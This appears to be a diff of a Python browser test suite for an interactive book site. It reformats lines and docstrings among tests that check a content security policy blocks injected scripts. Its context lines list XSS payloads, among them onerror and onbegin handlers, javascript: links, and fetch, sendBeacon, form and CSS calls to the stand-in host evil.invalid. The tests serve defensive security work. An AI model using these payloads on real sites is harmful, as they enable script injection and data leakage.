@@ -24,7 +24,8 @@ INTRUSIONS = {
     " s.src = 'data:text/javascript,' + encodeURIComponent(MARK('data address')); document.body.append(s); }",
     "other host": "() => { const s = document.createElement('script'); s.src = 'https://evil.invalid/x.js';"
     " document.body.append(s); }",
-    "handler": "() => document.body.insertAdjacentHTML('beforeend', `<img src='x:' onerror=\"${MARK('handler')}\">`)",
+    "handler": "() => document.body.insertAdjacentHTML('beforeend',"
+    " `<img src='x:' onerror=\"${MARK('handler')}\">`)",
     "drawing": "() => document.body.insertAdjacentHTML('beforeend',"
     " `<svg><animate onbegin=\"${MARK('drawing')}\" attributeName='x' dur='1s'/></svg>`)",
     "link": "() => { const a = document.createElement('a'); a.href = 'javascript:' + MARK('link');"
@@ -38,7 +39,8 @@ INTRUSIONS = {
     "request": "() => fetch('https://evil.invalid/r').catch(() => {})",
     "beacon": "() => { navigator.sendBeacon('https://evil.invalid/b', 'x'); }",
     "style": "() => document.body.insertAdjacentHTML('beforeend',"
-    " `<style>@import url(https://evil.invalid/s.css); body { background: url(https://evil.invalid/b.png) }</style>`)",
+    " `<style>@import url(https://evil.invalid/s.css);"
+    " body { background: url(https://evil.invalid/b.png) }</style>`)",
     "form": "() => { const f = document.createElement('form'); f.action = 'https://evil.invalid/f';"
     " document.body.append(f); f.submit(); }",
     "base": "() => { const b = document.createElement('base'); b.href = 'https://evil.invalid/';"
@@ -107,7 +109,7 @@ def test_every_page_has_a_policy_that_fits_it(site):
 
 
 def test_a_policy_is_seen_to_be_broken(serve, visit, tmp_path):
-    """A negative control: a script that came after the policy was written is refused, and the visit is not quiet."""
+    """A negative control: a script that came after the policy is refused, and the visit is not quiet."""
     text = (HTML / "book" / "fish.html").read_text(encoding="utf-8")
     (tmp_path / "page.html").write_text(text.replace("</body>", "<script>let late;</script></body>"), "utf-8")
     seen = visit(f"{serve(tmp_path)}/page.html")
@@ -248,9 +250,10 @@ STATE = """() => ({
         .map(e => [e.id, {...e.pairint.values}])),
     bad: [...document.querySelectorAll(".pairint-explorer")].flatMap(e => [
         ...[...e.shadowRoot.querySelectorAll("svg *")].flatMap(x => [...x.attributes])
-            .filter(a => a.name !== "class" && /NaN|Infinity|undefined/.test(a.value)).map(a => `${a.name}=${a.value}`),
-        ...[...e.shadowRoot.querySelectorAll(".summary, output, .title, svg text, td")].map(x => x.textContent)
-            .filter(t => /NaN|undefined|\\[object|intruded|<img|<script/.test(t)),
+            .filter(a => a.name !== "class" && /NaN|Infinity|undefined/.test(a.value))
+            .map(a => `${a.name}=${a.value}`),
+        ...[...e.shadowRoot.querySelectorAll(".summary, output, .title, svg text, td")]
+            .map(x => x.textContent).filter(t => /NaN|undefined|\\[object|intruded|<img|<script/.test(t)),
         ...[...e.shadowRoot.querySelectorAll("script, iframe, object, embed")].map(x => x.outerHTML)]),
     intruded: window.intruded ?? null,
     polluted: Object.keys(Object.prototype).length + (({}).d !== undefined) + (({}).samples !== undefined),
@@ -271,7 +274,7 @@ def legal(value: Any, parameter: dict[str, Any]) -> bool:
 
 
 def generator() -> np.random.Generator:
-    """Return the same draws each time; other ones where PAIRINT_TEST_SEED is "random" (`make test-nightly`)."""
+    """Return the same draws each time; other ones where PAIRINT_TEST_SEED is "random"."""
     return np.random.default_rng(None if os.environ.get("PAIRINT_TEST_SEED") == "random" else 17)
 
 
@@ -312,7 +315,7 @@ def test_no_link_makes_a_figure_show_what_it_cannot(site, visit, with_figures):
 
 
 def test_a_good_link_is_followed(site, visit):
-    """A negative control of the check above: links do change the figures, and an illegal value would be seen."""
+    """A negative control: links do change the figures, and an illegal value would be seen."""
     found = figures()
     if not found:
         pytest.skip("the book is not built: run `make book`")
@@ -339,7 +342,7 @@ def test_whatever_is_searched_for_is_shown_as_text(site, visit, value):
     seen.assert_quiet()
 
 
-@pytest.mark.parametrize("value", HOSTILE_VALUES[:8] + ("%", "__proto__", "\u202e", "A" * 5000))
+@pytest.mark.parametrize("value", (*HOSTILE_VALUES[:8], "%", "__proto__", "\u202e", "A" * 5000))
 def test_a_fragment_that_names_nothing_changes_nothing(site, visit, value):
     """On a page with folded proofs, whose script looks for what the address names."""
     seen = visit(f"{site}/book/upper_bound_proof.html")
